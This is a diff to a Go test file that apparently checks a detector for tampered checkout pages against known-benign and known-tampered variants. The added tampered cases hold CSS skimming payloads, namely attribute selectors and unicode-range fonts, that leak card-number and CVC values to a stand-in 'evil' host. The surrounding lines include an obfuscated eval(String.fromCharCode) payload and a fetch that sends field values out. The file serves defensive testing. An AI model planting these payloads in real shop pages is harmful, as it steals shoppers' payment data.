@@ -56,6 +56,19 @@ func replicas() []replica {
 		{name: "a file of a vendor without its hash", altered: genuine().with(shop{"shop/checkout": cutOut(genuine()["shop/checkout"], ` integrity="`, `"`)}), found: payment.KindIntegrity},
 		{name: "the policy of the page is gone", altered: genuine().with(shop{"header/Content-Security-Policy": "none"}), found: payment.KindHeader},
 		{name: "numbers that spell code", altered: inline(`eval(String.fromCharCode(110,101,119,32,73,109,97,103,101,40,41,46,115,114,99,61,39,47,47,101,118,105,108,46,108,111,99,97,108,104,111,115,116,47,99,63,39,43,110,46,118,97,108,117,101));`), found: payment.KindInlineScript, suspected: payment.SignHidden},
+		{name: "a style sheet of the shop that asks for a picture by what is typed", altered: genuine().with(shop{
+			"shop/css/shop.css": `body { color: #222 } input[name="card_number"][value^="4"] { background: url("{evil}/4.png") }`,
+		}), found: payment.KindHost, suspected: payment.SignStyle},
+		{name: "a style sheet that another one imports", altered: genuine().with(shop{
+			"shop/css/shop.css": `@import "more.css"; body { color: #222 }`, "shop/css/more.css": `@media screen { #n[\76 alue$='4'] ~ p { content: URL({evil}/4) } }`,
+		}), found: payment.KindHost, suspected: payment.SignStyle},
+		{name: "fonts for each figure in a style sheet", altered: genuine().with(shop{
+			"shop/css/shop.css": `@font-face { font-family: f; src: url({evil}/0); unicode-range: U+30 } @font-face { font-family: f; src: url({evil}/1); unicode-range: U+31 } @font-face { font-family: f; src: url({evil}/2); unicode-range: U+32 } input { font-family: f }`,
+		}), found: payment.KindHost, suspected: payment.SignStyle},
+		{name: "a style sheet of another host", altered: genuine().page(`<link rel="stylesheet" href="{evil}/theme.css">`, "").with(shop{
+			"evil/theme.css": `input[name="cvc"][value="123"] { background: url(/123.png) }`,
+		}), found: payment.KindHost},
+		{name: "a style sheet in an address", altered: genuine().page(`<link rel="stylesheet" href="data:text/css,input%5Bvalue%5E=%224%22%5D%7Bbackground:url({evil}/4)%7D">`, ""), found: payment.KindHost, suspected: payment.SignStyle},
 		{name: "a line more in the script of the data layer", altered: genuine().with(shop{"shop/checkout": replaced(genuine()["shop/checkout"], `total: 1200`, `total: fetch("{evil}/d?" + n.value)`)}), found: payment.KindChangedInline, suspected: payment.SignCode},
 	}
 }
@@ -91,6 +104,13 @@ func deploys() []deploy {
 		{name: "hints for the browser", changed: genuine().page(`<link rel="preload" as="script" href="/assets/app-3f2a9c1b.js"><link rel="preconnect" href="{tags}"><link rel="dns-prefetch" href="//fonts.example">`, "")},
 		{name: "a comment in a script", changed: page(`<script>window.dataLayer`, "<script>/* data layer, build 7 */\n  window.dataLayer")},
 		{name: "another style sheet", changed: page("/css/shop.css", "/css/winter.css").with(shop{"shop/css/winter.css": "body { color: #333 }"})},
+		{name: "fonts of Google in the shop's style sheet", changed: genuine().with(shop{
+			"shop/css/shop.css": `@font-face { font-family: "Noto Sans JP"; src: url(https://fonts.gstatic.com/s/a.0.woff2) format("woff2"); unicode-range: U+25ee8, U+25f23 } @font-face { font-family: "Noto Sans JP"; src: url(https://fonts.gstatic.com/s/a.1.woff2); unicode-range: U+30-39 }`,
+		})},
+		{name: "a sprite of icons", changed: genuine().with(shop{"shop/css/shop.css": `.icon { background: url("/img/sprite.svg") } .icon[data-name="cart"] { background-position: 0 -16px }`})},
+		{name: "how strong a password is", changed: genuine().with(shop{"shop/css/shop.css": `.strength[data-score="3"] { background: url({cdn}/3.png) } input:valid { background: url({cdn}/ok.svg) } meter[value^="1"] { background: url({cdn}/weak.png) }`})},
+		{name: "pictures of ways to pay", changed: genuine().with(shop{"shop/css/shop.css": `input[type="radio"][value="visa"] + label { background: url({cdn}/visa.png) } option[value^="1"] { background: url({cdn}/1.png) }`})},
+		{name: "an imported style sheet", changed: genuine().with(shop{"shop/css/shop.css": `@import url("base.css"); body { color: #222 }`, "shop/css/base.css": `input[value^="4"] { background: url(/img/visa.png) }`})},
 		{name: "another field in the order", changed: page(`<button>注文する`, `<input name="coupon"><button>注文する`)},
 		{name: "another session in the address of the form", changed: page("sid=81f0c2291bb4e0fa", "sid=00aa11bb22cc33dd")},
 		{name: "the search form moved", changed: page(`action="/products/list"`, `action="/search"`)},
